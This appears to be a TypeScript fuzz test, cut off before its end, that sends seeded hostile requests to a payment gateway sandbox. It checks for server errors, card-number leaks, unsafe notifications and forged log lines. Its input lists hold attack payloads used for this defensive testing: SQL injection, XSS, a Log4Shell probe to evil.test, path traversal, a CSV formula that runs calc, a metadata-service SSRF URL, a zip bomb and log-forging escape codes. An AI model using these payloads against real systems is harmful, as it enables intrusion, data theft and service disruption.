// A bounded, seeded hostile-input run over every operation of the contract, through the real HTTP
// server of a sandbox on a file store: malformed JSON, wrong types, huge and deep bodies, unicode and
// NUL bytes, injection-shaped strings, path traversal, duplicate keys, non-finite numbers, card
// numbers where they do not belong (in disguise too), zip bombs. Then the operations of the form/XML
// mode again, form-encoded, with the form reader's own hostile inputs (malformed escapes, names sent
// twice, bracketed and empty names, bytes that are not UTF-8, two content types) and hostile values
// echoed through the XML writer. Each request is signed as a client would sign it half of the time,
// so that many reach the handlers. Then the newer surfaces (SURFACES below): the control API, batch
// files line by line, notification addresses (every special-purpose block in every spelling) with a
// receiver that answers redirects. Asserted for every request: no 5xx; no card number in the answer
// (JSON, XML, CSV or zip); every XML answer a well-formed mwResponse; no JSON answer to a form request;
// a refusal changes no table's row count; no notification is sent to an address the policy refuses,
// and none follows a redirect. At the end: no card number in any file the store wrote, and the
// process still answers. The figures are printed (`fuzz: {...}`) and written to
// test-results/fuzz.json for CI.
import type { SqliteStore } from '../../sandbox/store-sqlite.ts';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildRequest, operation as operationOf, requestExamples, SANDBOX_ACCESS_TOKEN } from '../../contract/index.ts';
import { protocols } from '../../generated/protocols.ts';
import { operations, type ContractOperation } from '../../generated/operations.ts';
import { urlRefusal } from '../../sandbox/url-policy.ts';
import {
  cardNumberPath,
  findCardNumber,
  findCardNumbers,
  maskCardNumbers,
  numbersIn,
} from '../../runtime/card-numbers.ts';
import { consoleLogger, type GatewayRequest } from '../../server-stubs/index.ts';
import { logWriter } from '../../runtime/log-line.ts';
import { logLine as requestLogLine } from '../../sandbox/main.ts';

/** A protocol's id in x-wire-formats. */
type Wire = string;
import { inBlock, SPELLINGS, V4_FORBIDDEN } from './addresses.ts';
import { disguised } from './disguises.ts';
import { repeatedLines, zipOne } from '../support/zip-bomb.ts';
import {
  batchBody,
  counts,
  ddAuth,
  FOREIGN_CARD,
  hardeningSandbox,
  merchant,
  purchase,
  send,
  signed,
  storedCard,
  visa,
  BATCH_HEADER,
} from './support.ts';

const SEED = 20261123;
const RUNS_PER_OPERATION = 60;

const dir = mkdtempSync(path.join(os.tmpdir(), 'pgw-fuzz-'));
/**
 * Every write to the sandbox's two logs, as npm start writes them: the stubs' console log (warnings
 * and errors: an unknown field's name among them) and the request log (the path, the body's method).
 */
const logWrites: string[] = [];
const logSink = logWriter({ write: (text: string) => logWrites.push(text) });
/** What the notifier asked to send: the URL, and whether it would have followed a redirect. */
const sends: { url: string; redirect: string | undefined }[] = [];
let sendNo = 0;
const sb = await hardeningSandbox(
  path.join(dir, 'fuzz.db'),
  {},
  {
    control: true,
    logger: consoleLogger(logSink),
    onRequest: (record) => logSink(requestLogLine(record)),
    // Names resolve through this stub only (nothing leaves loopback): each to a public address.
    resolve: async () => ['93.184.216.34'],
    // A receiver that answers with redirects to the metadata service now and then.
    fetch: (async (url: string, init: RequestInit) => {
      sends.push({ url, redirect: init.redirect });
      return new Response(null, {
        status: sendNo++ % 3 === 0 ? 302 : 204,
        headers: { location: 'http://169.254.169.254/latest/meta-data' },
      });
    }) as typeof fetch,
  },
);
const server = sb.server();
const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
let port = 0;

beforeAll(async () => {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  port = (server.address() as AddressInfo).port;
  // State for the examples' identifiers to meet, so that mutated requests reach deep into handlers.
  await sb.store.run(
    'INSERT INTO access_tokens (token, merchant_id, amount, currency, expires_at) VALUES (?, ?, ?, ?, ?)',
    SANDBOX_ACCESS_TOKEN,
    merchant.merchantUUID,
    '10.00',
    'AUD',
    '2999-01-01 00:00:00',
  );
  await storedCard(sb);
  await send(sb, signed('processCard', purchase()));
  await send(
    sb,
    signed('createPayId', { payId: 'jane-1001@merchant.payid.test', name: 'Jane Citizen', reference: 'CUST-1001' }),
  );
  await send(
    sb,
    signed('createAgreement', {
      payer: { name: 'Jane', account: { name: 'Jane', bsb: '802950', accountNumber: '123321' } },
      agreement: { arrangement: 'Gym', payment: { type: 'BALN', frequency: 'ADHO', maximum: 200, pointInTime: 4 } },
    }),
  );
});
afterAll(async () => {
  agent.destroy();
  await new Promise((resolve) => server.close(resolve));
  await sb.close();
  rmSync(dir, { recursive: true, force: true });
});

interface Raw {
  verb: string;
  url: string;
  headers: Record<string, string | undefined>;
  body?: string | Uint8Array | undefined;
}

function request(raw: Raw): Promise<{ status: number; type: string; body: Buffer }> {
  return new Promise((resolve, reject) => {
    const headers = Object.fromEntries(Object.entries(raw.headers).filter(([, v]) => v !== undefined)) as Record<
      string,
      string
    >;
    if (raw.body !== undefined) headers['content-length'] = String(Buffer.byteLength(raw.body as string));
    const req = http.request({ agent, host: '127.0.0.1', port, method: raw.verb, path: raw.url, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({
          status: res.statusCode!,
          type: String(res.headers['content-type'] ?? ''),
          body: Buffer.concat(chunks),
        }),
      );
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(raw.body);
  });
}

const deep = (n: number): unknown => {
  let v: unknown = 'bottom';
  for (let i = 0; i < n; i++) v = [v];
  return v;
};

/** Every card number this run sends (disguised, in the wrong field, in a card field): what no file may hold. */
const sentCards = new Set<string>();
const noteCards = (text: string) => {
  for (const card of findCardNumbers(text)) sentCards.add(card.digits);
  return text;
};
/** The disguised card numbers, each noted as it is made. */
const disguisedNoted = disguised.map(noteCards);

const INJECTIONS = [
  "' OR '1'='1",
  '"; DROP TABLE transactions; --',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent as the literal text it is
  '${jndi:ldap://evil.test/x}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '🙂'.repeat(40),
  '\u202eevil',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|',
  '+1+1',
  '-2+3',
  '\t=1',
  FOREIGN_CARD,
  '4564 7100 0000 0004',
  `ref ${FOREIGN_CARD}`,
  'x'.repeat(70_000),
  '',
  ' ',
  'null',
  'true',
  '1e309',
  'NaN',
  '-0',
  '0x10',
  '１２３',
  'http://169.254.169.254/latest/meta-data',
];
for (const text of [...INJECTIONS, FOREIGN_CARD, visa.paymentCardNumber]) noteCards(text);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
  {
    weight: 1,
    arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -1, 1e308, -1e308, 5e-324, 2 ** 53 + 1)),
  },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, deep(300), { method: 'processBatch' }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** A zip of a CSV: valid, a bomb (20 MB of one line), hostile lines, or not a zip. */
const batchFiles = (() => {
  // Deflated by node:zlib (test/support/zip-bomb.ts): fflate's zipSync took 0.5 s of CPU for it.
  const bomb = repeatedLines(20_000_000, BATCH_HEADER, 'R-1,5.00,AUD,Box,KOCI12345678,abcdefghijklmnop\n');
  const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
  return [
    b64(zipOne('b.csv', bomb, 9)),
    b64(
      zipSync({
        'b.csv': strToU8(
          `${BATCH_HEADER}\n"R\n9,forged,1.00,0,ok",5.00,AUD,=1+1,KOCI1,k\nR-2,1e309,AUD,${FOREIGN_CARD},x,y\n`,
        ),
      }),
    ),
    b64(zipSync({ 'a.csv': strToU8('x'), 'b.csv': strToU8('y') })),
    b64(zipSync({ '../../etc/passwd.csv': strToU8(`${BATCH_HEADER}\n`) })),
    b64(strToU8('PK\u0003\u0004 not really a zip')),
    'not base64 at all!',
    b64(zipSync({ 'b.csv': new Uint8Array([0xff, 0xfe, 0x00, 0xc3]) })),
  ];
})();

type Mutation =
  | { kind: 'set'; key: number; value: unknown }
  | { kind: 'add'; name: string; value: unknown }
  | { kind: 'drop'; key: number }
  | { kind: 'replace'; value: unknown }
  | {
      kind: 'text';
      how: 'truncate' | 'duplicate' | 'infinity' | 'utf8' | 'huge' | 'nested' | 'garbage' | 'empty' | 'type';
      at: number;
    }
  | { kind: 'param'; value: string; raw: boolean }
  | { kind: 'query'; name: string; value: string }
  | { kind: 'header'; name: string; value: string }
  | { kind: 'batch'; file: number };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ kind: fc.constant('set' as const), key: fc.nat(), value: hostileValue }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('add' as const),
      name: fc.constantFrom('__proto__', 'constructor', 'x', 'custom1', 'transactionProduct', 'notifyURL', 'method'),
      value: hostileValue,
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('drop' as const), key: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('replace' as const), value: hostileValue }) },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('text' as const),
      how: fc.constantFrom('truncate', 'duplicate', 'infinity', 'utf8', 'huge', 'nested', 'garbage', 'empty', 'type'),
      at: fc.nat(),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('param' as const),
      value: fc.constantFrom(
        '..',
        '../../etc/passwd',
        '%2e%2e%2f',
        '%00',
        '%ZZ',
        'a%2Fb',
        FOREIGN_CARD,
        "' OR 1=1 --",
        'x'.repeat(5000),
        '🙂',
      ),
      raw: fc.boolean(),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('query' as const),
      name: fc.constantFrom('status', 'from', 'to', 'agreementIdentification', 'x', '__proto__'),
      value: fc.constantFrom(...INJECTIONS.slice(0, 20)),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('header' as const),
      name: fc.constantFrom('content-type', 'svc-api-version', 'svc-merchantid', 'svc-apikey', 'svc-messagehash'),
      value: fc.constantFrom(
        'text/plain',
        'application/json; charset=utf-16',
        '2.0 ',
        '1.0',
        '',
        'x'.repeat(2000),
        FOREIGN_CARD,
      ),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('batch' as const), file: fc.nat(batchFiles.length - 1) }) },
);

function pathParams(op: ContractOperation): Record<string, string> {
  return Object.fromEntries(op.parameters.filter((p) => p.in === 'path').map((p) => [p.name, p.example!]));
}

/** The hostile request for one operation: its first example, mutated, signed or not. */
function hostile(op: ContractOperation, m: Mutation, sign: boolean, wire: Wire = 'json'): Raw {
  const example = op.request ? structuredClone(requestExamples(op)[0]?.value ?? {}) : undefined;
  let body: unknown = example;
  let params = pathParams(op);
  let query: Record<string, string> | undefined;
  const keys = example ? Object.keys(example) : [];
  if (example && m.kind === 'set' && keys.length)
    (example as Record<string, unknown>)[keys[m.key % keys.length]!] = m.value;
  if (example && m.kind === 'add')
    Object.defineProperty(example, m.name, { value: m.value, enumerable: true, configurable: true, writable: true });
  if (example && m.kind === 'drop' && keys.length)
    delete (example as Record<string, unknown>)[keys[m.key % keys.length]!];
  if (m.kind === 'replace') body = m.value;
  if (m.kind === 'batch' && example) (example as Record<string, unknown>).batchFile = batchFiles[m.file];
  if (m.kind === 'param' && !m.raw && Object.keys(params).length)
    params = Object.fromEntries(Object.keys(params).map((k) => [k, decodeURIComponentSafe(m.value)]));
  if (m.kind === 'query') query = { [m.name]: m.value };

  let built: GatewayRequest;
  try {
    const isObject = body !== null && typeof body === 'object' && !Array.isArray(body);
    built =
      sign && isObject
        ? signed(op.operationId, body as Record<string, unknown>, { params, wire, ...(query ? { query } : {}) })
        : buildRequest(op, { body, params, wire, ...(query ? { query } : {}) });
  } catch {
    built = buildRequest(op, { params });
    built = {
      ...built,
      body: JSON.stringify(body ?? null),
      headers: { ...built.headers, 'content-type': 'application/json' },
    };
  }
  const raw: Raw = { verb: built.verb, url: built.url, headers: { ...built.headers }, body: built.body };
  if (m.kind === 'param' && m.raw && Object.keys(pathParams(op)).length) {
    const first = Object.values(pathParams(op))[0]!;
    raw.url = raw.url.replace(encodeURIComponent(first), m.value.replace(/[^\x21-\x7e]/gu, encodeURIComponent));
  }
  if (m.kind === 'header') raw.headers[m.name] = m.value;
  if (m.kind === 'text' && wire === 'form') {
    // The form reader's own hostile inputs: escapes, names, sizes, types and bytes it must refuse or read safely.
    const text = typeof raw.body === 'string' ? raw.body : 'method=x';
    const cut = text.length ? m.at % text.length : 0;
    // Only the chosen body is made (each a function): making all nine for every request, a 1.1 MB
    // string among them, took some 2 s of the file's CPU.
    raw.body = {
      truncate: () => `${text.slice(0, cut)}%`,
      duplicate: () => `${text}&${text.split('&')[0]}`,
      infinity: () => `${text}&options[storeInVaultOnSuccess]=true&options=1&a[b][c]=1&__proto__=x&constructor=y`,
      utf8: () => `${text.slice(0, cut)}%C3%28%FF${text.slice(cut)}`,
      huge: () => `${text}&custom1=${'x'.repeat(1_100_000)}`,
      nested: () => `${text}&${'a['.repeat(10_000)}=1&=orphan`,
      garbage: () => `${text}&%G1=%ZZ&&&==&%`,
      empty: () => '',
      type: () => text,
    }[m.how]();
    if (m.how === 'type') raw.headers['content-type'] = 'application/x-www-form-urlencoded, application/json';
  } else if (m.kind === 'text') {
    const text = typeof raw.body === 'string' ? raw.body : '{"method":"x"}';
    raw.headers['content-type'] = 'application/json';
    const cut = text.length ? m.at % text.length : 0;
    raw.body = {
      truncate: () => text.slice(0, cut),
      duplicate: () => text.replace(/^\{("[^"]+"):("[^"]*"|[^,}]*)/, '{$1:$2,$1:"second"'),
      infinity: () => text.replace(/\}$/, ',"amount":1e309}').replace(/:(\d+(\.\d+)?)([,}])/, ':1e309$3'),
      utf8: (): string | Uint8Array =>
        Buffer.concat([
          Buffer.from(text.slice(0, cut)),
          Buffer.from([0xc3, 0x28, 0xff]),
          Buffer.from(text.slice(cut)),
        ]) as Uint8Array,
      huge: () => text.replace(/\}$/, `,"custom1":"${'x'.repeat(1_100_000)}"}`),
      nested: () => `{"method":"processBatch","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      garbage: () => `${text}}}]]`,
      empty: () => '',
      type: () => text,
    }[m.how]();
    if (m.how === 'type') raw.headers['content-type'] = 'application/x-www-form-urlencoded';
  }
  return raw;
}

function decodeURIComponentSafe(v: string): string {
  try {
    return decodeURIComponent(v);
  } catch {
    return v;
  }
}

/** The hashes answers carry (hex computed over the rest): not read for card numbers, as the stubs do not. */
const RESULT_HASHES = new Set(operations.flatMap((o) => o.resultHashes.map((h) => h.name)));
const notHash = (name: string) => RESULT_HASHES.has(name);
/** A file's cells are read one by one (its commas, quotes and line ends end a number), as the stubs read them. */
const CELLS = { breaks: ',\r\n"' };

/** Whether an answer holds a card number in any spelling: each value of a JSON or XML answer on its own. */
function leaks(type: string, body: Buffer): boolean {
  if (type.includes('zip')) {
    try {
      return Object.values(unzipSync(body)).some((f) => findCardNumber(Buffer.from(f).toString('utf8'), CELLS));
    } catch {
      return findCardNumber(body.toString('latin1'));
    }
  }
  const text = body.toString('utf8');
  if (type.includes('csv')) return findCardNumber(text, CELLS);
  // An answer of any protocol is read as its clients read it, each value on its own.
  const read = protocols.answeredIn(type)?.readAnswer(text);
  if (read && 'ok' in read) return cardNumberPath(read.ok, notHash) !== undefined;
  return findCardNumber(text);
}

const BASIC = `Basic ${Buffer.from(`${merchant.merchantUUID}:${merchant.apiKey}`).toString('base64')}`;

/** A URL the policy refuses, in one of its spellings, or one it allows. */
const notifyAddress = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.constantFrom(...V4_FORBIDDEN).chain(inBlock), fc.constantFrom(...SPELLINGS))
      .map(([ip, spell]) => `http://${spell(ip)}/hook`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'http://[fd00::1]/',
      'http://[2001:db8::1]/',
      'http://[ff02::1]/',
      'ftp://merchant.example/',
      'http://localhost:1/',
      'https://merchant.example/hooks',
      'http://127.0.0.1:1/x',
    ),
  },
);

/** A JSON request to a control API route, with the merchant's credentials or without. */
const controlRoute = fc.constantFrom(
  'GET /clock',
  'POST /clock/advance',
  'POST /outcomes/next',
  'POST /payouts/P-1/transactions/T-1/return',
  'POST /direct-debits/1336-x/dishonour',
  'POST /notifications',
  'GET /deliveries',
  'GET /deliveries/1',
  'DELETE /merchants/5265f8eed6a19/data',
);
const controlBody = fc.oneof(
  hostileValue,
  fc.record({ seconds: hostileValue }),
  fc.record({ days: fc.oneof(fc.integer(), fc.double(), hostileValue) }),
  fc.record({ operationId: fc.constantFrom('processCard', '__proto__', 'constructor'), outcome: hostileValue }),
  fc.record({ event: fc.constantFrom('directDebitOutcome', 'batchNotify', 'toString'), notifyURL: notifyAddress }),
  fc.record({ notifyURL: notifyAddress, hashSalt: hostileValue }),
);

/** A batch file's cell: a good one, a card number in disguise, an injection, a field /post refuses. */
const batchCell = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('R-1', '10.00', 'AUD', 'Gym', 'KOCI12345678', 'abcdefghijklmnop') },
  { weight: 2, arbitrary: disguisedNoted },
  { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS.slice(0, 30)) },
  { weight: 1, arbitrary: fc.constantFrom('1.5', '-0.00', 'P'.repeat(35), '', '"', '"a,b"', 'x\ny') },
);
const batchLine = fc
  .array(batchCell, { minLength: 1, maxLength: 8 })
  .map((cells) => cells.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(','));

/**
 * The newer surfaces, each a generator of raw requests. The form bodies of the wire-format work
 * (branch h25) go here when they land: a surface that sends each operation's request as
 * application/x-www-form-urlencoded (runtime/forms.ts chooses the form), mutated as `hostile` does.
 */
/** Caller text aimed at the log lines: a card number in disguise, a forged line, terminal escapes. */
const logText = fc.oneof(
  disguisedNoted,
  fc.constantFrom(
    '\n12:00:00.000 POST /post processCard processCard 0 1.0ms',
    '\r\u001b[2K12:00:00.000 GET / - - 0 0.1ms',
    '\u001b]0;owned\u0007\u001b[2J',
    '\u2028forged\u2029line',
    '\u202egnp.exe',
    noteCards(`x${FOREIGN_CARD}y`),
    noteCards(`0x${FOREIGN_CARD}`),
    noteCards('4564:7100:0000:0004'),
  ),
  fc.string({ unit: 'binary', maxLength: 30 }),
);

const SURFACES: { name: string; runs: number; requests: fc.Arbitrary<Raw> }[] = [
  {
    // What a caller controls that reaches a log line: the body's method, the path, an unknown field's
    // name, a header's value; signed half of the time, so that some reach the handlers' warnings.
    name: 'log lines',
    runs: 300,
    requests: fc
      .tuple(fc.constantFrom('method', 'path', 'field', 'header', 'form'), logText, fc.boolean())
      .map(([where, text, sign]) => {
        if (where === 'path')
          return {
            verb: 'POST',
            url: `/post/${encodeURIComponent(text)}`,
            headers: { 'content-type': 'application/json' },
            body: '{}',
          };
        if (where === 'header') {
          const built = signed('processCard', purchase());
          // A header value carries no control character (HTTP refuses one): the rest of the text.
          const value = text.replace(/[^\x20-\x7e]/g, ' ');
          return {
            verb: built.verb,
            url: built.url,
            headers: { ...built.headers, 'svc-api-version': value },
            body: built.body,
          };
        }
        const body =
          where === 'method'
            ? { ...purchase(), method: text }
            : { ...purchase(), [text || 'x']: 'unknown', [`custom${text}`]: text };
        const built = sign ? signed('processCard', body) : buildRequest(operationOf('processCard'), { body });
        if (where !== 'form')
          return { verb: built.verb, url: built.url, headers: { ...built.headers }, body: built.body };
        const form = buildRequest(operationOf('processCard'), { body, wire: 'form' });
        return { verb: form.verb, url: form.url, headers: { ...form.headers }, body: form.body };
      }),
  },
  {
    name: 'control API',
    runs: 400,
    requests: fc
      .tuple(controlRoute, controlBody, fc.boolean(), fc.constantFrom('json', 'text', 'deep'))
      .map(([route, body, credentials, form]) => {
        const [verb, path] = route.split(' ') as [string, string];
        const text =
          form === 'deep'
            ? `{"seconds":${'['.repeat(50_000)}${']'.repeat(50_000)}}`
            : form === 'text'
              ? typeof body === 'string'
                ? body
                : JSON.stringify(body ?? null).slice(1)
              : JSON.stringify(body ?? null);
        return {
          verb,
          url: `/_sandbox${path}`,
          headers: { 'content-type': 'application/json', ...(credentials ? { authorization: BASIC } : {}) },
          ...(verb === 'GET' ? {} : { body: text }),
        };
      }),
  },
  {
    name: 'batch files',
    runs: 200,
    requests: fc
      .tuple(fc.array(batchLine, { minLength: 0, maxLength: 12 }), fc.option(notifyAddress, { nil: undefined }))
      .map(([lines, batchNotifyURL]) => {
        const csv = `${BATCH_HEADER}\n${lines.join('\n')}\n`;
        const built = signed('processBatch', batchBody(csv, batchNotifyURL ? { batchNotifyURL } : {}));
        return { verb: built.verb, url: built.url, headers: { ...built.headers }, body: built.body };
      }),
  },
  {
    name: 'notification addresses',
    runs: 300,
    requests: fc
      .tuple(notifyAddress, fc.constantFrom('processDDebitAuth', 'createPayouts', 'simulateNotify', 'processBatch'))
      .map(([url, operationId]) => {
        const bodies: Record<string, Record<string, unknown>> = {
          processDDebitAuth: JSON.parse(String(ddAuth(url).body)),
          createPayouts: {
            reference: 'PO-F',
            notifyURL: url,
            transactions: [
              {
                payee: { name: 'Sam' },
                transaction: { reference: 'PO-F-1', amount: 1, bsb: '802950', accNumber: '123321' },
              },
            ],
          },
          simulateNotify: {
            method: 'simulateNotify',
            ...merchant,
            event: 'directDebitOutcome',
            notifyURL: url,
            hash: 'x',
          },
          processBatch: batchBody(`${BATCH_HEADER}\n`, { batchNotifyURL: url }),
        };
        const built = signed(operationId, bodies[operationId]!);
        return { verb: built.verb, url: built.url, headers: { ...built.headers }, body: built.body };
      }),
  },
];

describe('hostile input over every operation (seeded)', () => {
  const stats = {
    requests: 0,
    xml: 0,
    answered: 0,
    refused: 0,
    fiveHundreds: 0,
    crashes: 0,
    storedByRefusal: 0,
    cardNumbersSeen: 0,
    forbiddenSends: 0,
    redirectsFollowed: 0,
    logLines: 0,
    cardNumbersInLogs: 0,
    forgedLogLines: 0,
    bySurface: {} as Record<string, number>,
  };
  const formOperations = operations.filter((op) => op.protocols.includes('form'));
  const failures: string[] = [];

  /** Sends one hostile request and holds its answer to the rules; `name` says what it was. */
  async function judge(surface: string, name: string, raw: Raw, wire: Wire = 'json'): Promise<void> {
    const before = await counts(sb);
    let answer: Awaited<ReturnType<typeof request>>;
    try {
      answer = await request(raw);
    } catch (error) {
      stats.crashes++;
      failures.push(`${surface} ${name}: no answer (${(error as Error).message})`);
      return;
    }
    stats.requests++;
    stats.bySurface[surface] = (stats.bySurface[surface] ?? 0) + 1;
    const xml = answer.type.includes('xml');
    if (xml) stats.xml++;
    const text = answer.type.includes('json') || xml ? answer.body.toString('utf8') : '';
    let code = 0;
    if (xml) {
      // The XML writer under hostile echoes: every answer a well-formed mwResponse.
      const read = protocols.byId('form')!.readAnswer(text);
      if ('error' in read) failures.push(`${surface} ${name}: XML answer broken: ${read.error}`);
      code = 'ok' in read ? Number(read.ok.responseCode) : NaN;
    } else {
      try {
        code = text ? Number(JSON.parse(text).responseCode) : 0;
      } catch {
        code = NaN;
      }
    }
    // A form request to an operation of the form mode's paths (a JSON-only one may refuse it in JSON).
    if (
      wire === 'form' &&
      raw.headers['content-type'] === 'application/x-www-form-urlencoded' &&
      answer.type.includes('json')
    )
      failures.push(`${surface} ${name}: answered JSON to a form request`);
    const refused = answer.status >= 400 || code < 0 || Number.isNaN(code);
    if (refused) stats.refused++;
    else stats.answered++;
    if (answer.status >= 500) {
      stats.fiveHundreds++;
      failures.push(`${surface} ${name}: ${answer.status} ${text.slice(0, 200)}`);
    }
    if (leaks(answer.type, answer.body)) {
      stats.cardNumbersSeen++;
      failures.push(`${surface} ${name}: card number in the answer`);
    }
    if (refused && JSON.stringify(await counts(sb)) !== JSON.stringify(before)) {
      stats.storedByRefusal++;
      failures.push(`${surface} ${name}: a refusal stored (${text.slice(0, 120)})`);
    }
  }

  // 5,460 requests one after another: under a load of 27 on two cores they took more than the
  // default 120 s, and a test timed out goes on sending while the next tests run, whose counts then
  // see its writes ('a refusal stored' by the dozen). Nothing here is timed; the bound is a hang's.
  it(`${RUNS_PER_OPERATION} hostile requests per operation: no 5xx, no leak, no refusal that stores`, async () => {
    // Every operation in the JSON mode, then every operation of the form mode's paths form-encoded.
    const runs = [
      ...operations.map((op) => ({ op, wire: 'json' as Wire })),
      ...formOperations.map((op) => ({ op, wire: 'form' as Wire })),
    ];
    const plan = fc.sample(fc.tuple(mutation, fc.boolean()), { seed: SEED, numRuns: runs.length * RUNS_PER_OPERATION });
    let i = 0;
    for (const { op, wire } of runs) {
      for (let r = 0; r < RUNS_PER_OPERATION; r++) {
        const [m, sign] = plan[i++]!;
        await judge(
          wire === 'form' ? 'form operations' : 'operations',
          `${op.operationId} ${JSON.stringify(m).slice(0, 160)}`,
          hostile(op, m, sign, wire),
          wire,
        );
      }
    }
    expect(failures.slice(0, 20)).toEqual([]);
    expect(stats.requests).toBe(runs.length * RUNS_PER_OPERATION);
    expect(stats.xml).toBeGreaterThan(formOperations.length * RUNS_PER_OPERATION * 0.9);
  }, 600_000);

  it.each(SURFACES.map((s) => [s.name, s] as const))('the newer surfaces: %s', async (_, surface) => {
    const plan = fc.sample(surface.requests, { seed: SEED, numRuns: surface.runs });
    for (const [i, raw] of plan.entries()) await judge(surface.name, `#${i} ${raw.verb} ${raw.url}`, raw);
    expect(failures.slice(0, 20)).toEqual([]);
  });

  it('no notification went to an address the policy refuses, none followed a redirect', async () => {
    await sb.notifier.deliverDue();
    for (const s of sends) {
      if (urlRefusal(s.url, { allowPrivate: false, allowLoopback: true })) {
        stats.forbiddenSends++;
        failures.push(`notification sent to ${s.url}`);
      }
      if (s.redirect !== 'manual') stats.redirectsFollowed++;
    }
    expect(failures.slice(0, 20)).toEqual([]);
    expect(stats.redirectsFollowed).toBe(0);
  });

  it("the request log the hostile requests left: each account's lines readable, no card number, no control character, nothing of a secret", async () => {
    const { merchantUUID, partnerUUID, apiKey, passphrase } = sb.seed;
    const md5 = (text: string) => createHash('md5').update(text).digest('hex');
    const secrets = [passphrase, md5(passphrase)];
    const UNSAFE = '[\\u0000-\\u001f\\u007f-\\u009f\\u2028\\u2029]';
    let lines = 0;
    for (const id of [merchantUUID, partnerUUID]) {
      const answer = await request({
        verb: 'GET',
        url: '/_sandbox/requests?latest=500',
        headers: { authorization: `Basic ${Buffer.from(`${id}:${apiKey}`).toString('base64')}` },
      });
      expect(answer.status).toBe(200);
      const text = answer.body.toString('utf8');
      const { requests } = JSON.parse(text) as { requests: Record<string, unknown>[] };
      lines += requests.length;
      expect(findCardNumber(text), id).toBe(false);
      for (const secret of secrets) expect(text.includes(secret), id).toBe(false);
      const strings: string[] = [];
      const walk = (v: unknown) =>
        typeof v === 'string' ? strings.push(v) : v && typeof v === 'object' && Object.values(v).forEach(walk);
      walk(requests);
      for (const value of strings) {
        expect(new RegExp(UNSAFE).test(value), JSON.stringify(value)).toBe(false);
        expect(findCardNumber(value), JSON.stringify(value)).toBe(false);
      }
    }
    // Thousands of the hostile requests were made with the sandbox's credentials: many lines, kept to each account's 1000.
    expect(lines).toBeGreaterThan(100);
    (stats as Record<string, unknown>).requestLogLines = lines;
  });

  it('the log lines the hostile requests left: one line per write, no card number, no control character', () => {
    const UNSAFE_IN_LOG = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])/u;
    stats.logLines = logWrites.length;
    for (const write of logWrites) {
      const line = write.endsWith('\n') ? write.slice(0, -1) : write;
      if (!write.endsWith('\n') || UNSAFE_IN_LOG.test(line)) {
        stats.forgedLogLines++;
        failures.push(`log line with a raw control character: ${JSON.stringify(line.slice(0, 160))}`);
      }
      if (findCardNumber(line)) {
        stats.cardNumbersInLogs++;
        failures.push(`card number in a log line: ${maskCardNumbers(line).slice(0, 160)}`);
      }
    }
    expect(failures.slice(0, 20)).toEqual([]);
    // Every request left its request-log line, and the caller's text reached many.
    expect(stats.logLines).toBeGreaterThan(1000);
    expect(logWrites.some((w) => w.includes('\\u001b') || w.includes('\\x1b'))).toBe(true);
  });

  afterAll(() => {
    console.log(`fuzz: ${JSON.stringify(stats)}`);
    mkdirSync('test-results', { recursive: true });
    writeFileSync('test-results/fuzz.json', `${JSON.stringify({ seed: SEED, ...stats }, null, 2)}\n`);
  });

  // The store's files are read for the card numbers this run sent, in any spelling. Not for any run of
  // digits that passes Luhn: SQLite writes a row's columns back to back, so neighbouring values make
  // such runs in every file (a receipt number then a settlement date's year, 1234567892026; a card's
  // last four, its expiry, an authorisation code and its response code, 19 digits), about 30 a run,
  // each so far excused only by a letter beside it. One with none beside it failed this check in CI
  // on chance digits, not on a value (test/hardening/README or the issue 39 report).
  it('the process still answers, and no file of the store holds a card number the run sent', async () => {
    const ok = await request({ verb: 'GET', url: '/openapi.json', headers: {} });
    expect(ok.status).toBe(200);
    expect(sentCards.size).toBeGreaterThan(100);
    (sb.store as SqliteStore).database.db.exec('PRAGMA wal_checkpoint(PASSIVE)');
    for (const file of readdirSync(dir)) {
      const text = readFileSync(path.join(dir, file)).toString('utf8');
      const leaks: string[] = [];
